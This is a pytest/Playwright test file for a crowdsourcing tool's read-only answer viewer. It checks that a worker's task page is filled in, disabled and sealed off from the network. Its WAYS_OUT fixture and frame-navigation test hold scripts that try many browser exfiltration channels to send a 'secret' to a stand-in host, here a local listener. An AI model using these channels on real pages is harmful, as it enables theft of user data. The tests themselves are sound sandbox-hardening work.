"""A worker's page that is only looked at, in a real browser: filled in, dead, and with no way out."""

from __future__ import annotations

import re
import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, FrameLocator, Page, Request, expect

from crowddesk import paths
from crowddesk.blueprints.form import FormBlueprint
from crowddesk.blueprints.static_html import StaticHtmlBlueprint
from crowddesk.taskserver.looking import Looking, SeenPage

TASKS = paths.resources_dir() / "tasks"


class Sink:
    """An address on this computer that hears whoever comes. Browsers connect before they ask a policy,
    and say nothing then."""

    def __enter__(self) -> Sink:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._socket.setblocking(False)
        self.address = f"127.0.0.1:{self._socket.getsockname()[1]}"
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.close()

    def heard_nothing(self) -> None:
        while True:
            try:
                wire, _ = self._socket.accept()
            except BlockingIOError:
                return
            with wire:
                wire.setblocking(False)
                try:
                    assert wire.recv(100) == b""
                except BlockingIOError:
                    continue


class Look:
    """A page in the browser; `requests` are those that no policy stopped, but for the server's own."""

    def __init__(self, page: Page, url: str) -> None:
        self.page = page
        self.requests: list[str] = []
        self.faults: list[str] = []
        #: Everything that reached the server of the page, by method.
        self.methods: set[str] = set()
        origin = f"{urlsplit(url).scheme}://{urlsplit(url).netloc}/"

        def hear(request: Request) -> None:
            if request.url.startswith(origin):
                self.methods.add(request.method)
            elif request.failure != "csp" and not request.url.startswith(("data:", "blob:")):
                self.requests.append(request.url)

        page.context.on("requestfailed", hear)
        page.context.on("requestfinished", hear)
        page.context.on("weberror", lambda error: self.faults.append(str(error.error)))
        page.goto(url)

    @property
    def task(self) -> FrameLocator:
        return self.page.frame_locator("#frame iframe")

    def is_dead(self) -> None:
        """Nothing in the task can be changed or pressed."""
        controls = self.task.locator("input, textarea, select, button")
        expect(controls.locator(":scope:enabled")).to_have_count(0)

    def nothing_left(self) -> None:
        assert self.requests == []
        assert self.methods == {"GET"}


@pytest.fixture
def looking() -> Iterator[Looking]:
    made = Looking()
    thread = threading.Thread(target=made.run, name="test-looking")
    thread.start()
    yield made
    made.stop()
    thread.join(10)


@pytest.fixture
def look(chromium: Browser, looking: Looking) -> Iterator[Callable[..., Look]]:
    """Opens a document with an answer."""
    contexts = []

    def open_page(document: str, answer: dict[str, list[str]], updates: Any = ()) -> Look:
        context = chromium.new_context()
        context.set_default_timeout(15_000)
        contexts.append(context)
        url = looking.show(SeenPage("Unit 4811", "unit 4811, answered today", document, answer, updates))
        return Look(context.new_page(), url)

    yield open_page
    for context in contexts:
        context.close()


def rendered(task: str, **values: str) -> str:
    return StaticHtmlBlueprint({"template": "template.html", "data": "data.csv"}, TASKS / task).render(values)


def test_a_sample_task_with_its_answer(look) -> None:
    document = rendered("reviews", product="A lamp", review="It is bright. <b>Very</b>.")
    answer = {
        "sentiment": ["negative"], "topics": ["use", "service"], "sure": ["rather"],
        "words": ["אור\n👩‍🔬 «bright»"],
    }  # fmt: skip
    seen = look(document, answer)
    expect(seen.page.get_by_role("banner")).to_contain_text("Read only: unit 4811, answered today")
    expect(seen.task.get_by_label("Negative")).to_be_checked()
    expect(seen.task.get_by_label("Positive")).not_to_be_checked()
    expect(seen.task.get_by_label("How well it does its job")).to_be_checked()
    expect(seen.task.get_by_label("How well it is made")).not_to_be_checked()
    expect(seen.task.locator("#sure")).to_have_value("rather")
    expect(seen.task.locator("#words")).to_have_value("אור\n👩‍🔬 «bright»")
    seen.is_dead()
    expect(seen.page.get_by_text("Also sent")).to_be_hidden()
    seen.task.get_by_text("Positive").click(force=True)
    seen.task.get_by_role("button", name="Submit").click(force=True)
    expect(seen.task.get_by_label("Negative")).to_be_checked()
    seen.nothing_left()
    assert seen.faults == []


CROWD = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form>
  <crowd-classifier name="mood" categories="['Happy', 'Sad']" header="What mood is it?"></crowd-classifier>
  <crowd-radio-group>
    <crowd-radio-button name="clear" value="clear">Clear</crowd-radio-button>
    <crowd-radio-button name="dark" value="dark">Dark</crowd-radio-button>
  </crowd-radio-group>
  <crowd-checkbox name="odd" value="odd">It is odd</crowd-checkbox>
  <crowd-input name="word" label="A word"></crowd-input>
  <crowd-slider name="sure" min="0" max="10"></crowd-slider>
  <crowd-text-area name="why"></crowd-text-area>
</crowd-form>"""


def test_crowd_elements(look) -> None:
    answer = {
        "mood": ["Sad"], "clear": [""], "dark": ["dark"], "odd": ["odd"], "word": ["lamp"], "sure": ["7"],
        "why": ["so"],
    }  # fmt: skip
    seen = look(CROWD, answer)
    expect(seen.task.get_by_label("Sad")).to_be_checked()
    expect(seen.task.get_by_label("Happy")).not_to_be_checked()
    expect(seen.task.get_by_label("Dark")).to_be_checked()
    expect(seen.task.get_by_label("Clear")).not_to_be_checked()
    expect(seen.task.get_by_label("It is odd")).to_be_checked()
    expect(seen.task.get_by_label("A word")).to_have_value("lamp")
    expect(seen.task.locator("input[name=sure]")).to_have_value("7")
    expect(seen.task.locator("textarea[name=why]")).to_have_value("so")
    seen.is_dead()
    assert seen.requests == []  # the library of old is ours
    assert seen.faults == []


def test_fields_that_a_script_makes_and_makes_again(look) -> None:
    seen = look(
        """<form><div id="more"></div><input type="hidden" name="counted"><button>Send</button></form>
        <script>
          let rounds = 0;
          const more = document.getElementById("more");
          function draw() {
            more.innerHTML = '<label>First <input name="made[]"></label>'
              + '<label>Second <input name="made[]"></label>'
              + '<label>Yes <input type="radio" name="pick" value="yes"></label>';
            if (++rounds < 5) setTimeout(draw, 60);
            else document.body.dataset.done = "yes";
          }
          setTimeout(draw, 60);
        </script>""",
        {"made[]": ["one", "two"], "pick": ["yes"], "counted": ["12"], "gone": ["a <b>b</b>"]},
    )
    expect(seen.task.locator("body[data-done=yes]")).to_be_visible()
    expect(seen.task.get_by_label("First")).to_have_value("one")
    expect(seen.task.get_by_label("Second")).to_have_value("two")
    expect(seen.task.get_by_label("Yes")).to_be_checked()
    expect(seen.page.locator("#hidden dl")).to_have_text("counted12")
    expect(seen.page.locator("#also dl")).to_have_text("gonea <b>b</b>")
    seen.is_dead()
    seen.nothing_left()


def test_a_document_that_is_written_anew(look) -> None:
    seen = look(
        """<script>window.addEventListener("load", () => setTimeout(() => {
          document.open();
          document.write('<form><label>Late <input name="late"></label></form>');
          document.close();
        }, 100));</script>""",
        {"late": ["here"]},
    )
    expect(seen.task.get_by_label("Late")).to_have_value("here")
    seen.is_dead()


def test_a_task_that_fights_does_not_hang_the_page(look) -> None:
    seen = look(
        """<form><label>A <input name="a"></label></form><script>
          const a = document.querySelector("input");
          new MutationObserver(() => { a.disabled = false; }).observe(a, {attributes: true});
          a.addEventListener("input", () => { a.value = "mine"; });
        </script>""",
        {"a": ["theirs"]},
    )
    expect(seen.task.locator("input")).to_be_visible()
    assert seen.page.evaluate("1 + 1") == 2
    seen.nothing_left()


#: FAR is an address that listens, put together so that the page does not seem to load anything.
WAYS_OUT = """<form action="/x" method="post"><input name="a" value="secret"><button>Send</button></form>
<a id="top" target="_top">x</a><a id="new" target="_blank">y</a>
<script>
  const far = "ht" + "tp://FAR/?", a = "secret";
  const tries = [
    () => fetch(far + "fetch" + a), () => fetch("/seen/x", {method: "POST", body: a, mode: "no-cors"}),
    () => navigator.sendBeacon(far + "beacon", a),
    () => { new Image().src = far + "image"; }, () => new WebSocket("ws://FAR/"),
    () => new EventSource(far + "events"),
    () => { const x = new XMLHttpRequest(); x.open("POST", far); x.send(a); },
    () => { const s = document.createElement("script"); s.src = far + "script"; document.body.append(s); },
    () => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = far;
            document.head.append(l); },
    () => { const f = document.createElement("iframe"); f.src = far + "frame"; document.body.append(f); },
    () => { document.body.style.backgroundImage = `url(${far}style)`; },
    () => window.open(far + "window"), () => { window.top.location = far + "top"; },
    () => HTMLFormElement.prototype.submit.call(document.forms[0]), () => document.forms[0].requestSubmit(),
    () => { const t = document.getElementById("top"); t.href = far; t.click(); },
    () => { const t = document.getElementById("new"); t.href = far; t.click(); },
    () => window.crowddesk.submit({a}), () => window.crowddesk.act({type: "x"}),
    () => { const f = document.createElement("form"); f.action = far; f.method = "post";
            document.body.append(f);
            Object.getPrototypeOf(document.createElement("form")).submit.call(f);
            const w = document.createElement("iframe"); document.body.append(w);
            w.contentWindow.HTMLFormElement.prototype.submit.call(f); },
  ];
  window.addEventListener("load", async () => {
    for (const one of tries) { try { await Promise.race([one(), new Promise((ok) => setTimeout(ok, 100))]); }
                               catch (error) {} }
    document.body.dataset.done = "yes";
  });
</script>"""


@pytest.mark.parametrize("chromium", ["together", "isolated"], indirect=True)
def test_where_frames_live_and_what_playwright_turns_off(
    chromium: Browser, look, request: pytest.FixtureRequest
) -> None:
    seen = look("<p>here</p>", {})
    expect(seen.task.get_by_text("here")).to_be_visible()
    targets = chromium.new_browser_cdp_session().send("Target.getTargets")["targetInfos"]
    is_isolated = request.node.callspec.params["chromium"] == "isolated"
    assert ("iframe" in [target["type"] for target in targets]) is is_isolated
    seen.page.goto("chrome://version")
    told = re.findall(r"--disable-features=(\S+)", seen.page.locator("#command_line").inner_text())
    assert {"PreconnectToSearch", *",".join(told).split(",")} <= set(told[-1].split(","))


@pytest.mark.parametrize("chromium", ["together", "isolated"], indirect=True)
def test_there_is_no_way_out(look) -> None:
    with Sink() as sink:
        seen = look(WAYS_OUT.replace("FAR", sink.address), {"a": ["kept"]})
        expect(seen.task.locator("body[data-done=yes]")).to_be_visible()
        expect(seen.task.locator("input[name=a]")).to_have_value("kept")
        seen.nothing_left()
        assert len(seen.page.context.pages) == 1
        expect(seen.page.get_by_role("banner")).to_be_visible()
        expect(seen.page.locator("#note")).to_contain_text(f"http://{sink.address}")
        sink.heard_nothing()


@pytest.mark.parametrize("chromium", ["together", "isolated"], indirect=True)
def test_a_frame_that_leaves_goes_nowhere(look) -> None:
    with Sink() as sink:
        leave = f"location = 'ht' + 'tp://{sink.address}/?secret'; setTimeout(() => location = 'x', 50);"
        seen = look(f"<p>x</p><script>{leave}</script>", {})
        expect(seen.page.get_by_role("banner")).to_be_visible()
        # Chromium's own page stands where a frame was kept from going; the other address is the server's.
        frame = seen.page.locator("#frame iframe").element_handle().content_frame()
        assert frame is not None
        frame.wait_for_url(re.compile(r"^chrome-error:|/x$"), wait_until="commit")
        sink.heard_nothing()
        assert seen.requests == []


def test_pictures_come_as_at_work_and_no_connection(look) -> None:
    seen = look(
        """<img src="https://pictures.invalid/a.png" onerror="document.body.dataset.tried = 'yes'">
        <input name="a">
        <script>
          fetch("https://pictures.invalid/data").catch(() => { document.body.dataset.done = "yes"; });
        </script>""",
        {"a": ["x"]},
    )
    expect(seen.task.locator("body[data-done=yes][data-tried=yes]")).to_have_count(1)
    assert seen.requests == ["https://pictures.invalid/a.png"]


def test_a_forms_page(look, tmp_path: Path) -> None:
    blueprint = FormBlueprint({"form": "form.yaml", "data": "data.csv"}, TASKS / "headlines")
    asked = blueprint.form
    single = next(field for field in asked.fields if field.type == "single")
    values = dict.fromkeys(asked.columns, "words")
    seen = look(blueprint.render(values), {single.name: [single.options[0].value]})
    expect(seen.task.locator(f"input[name={single.name}]").first).to_be_checked()
    seen.is_dead()
    seen.nothing_left()
    assert seen.faults == []
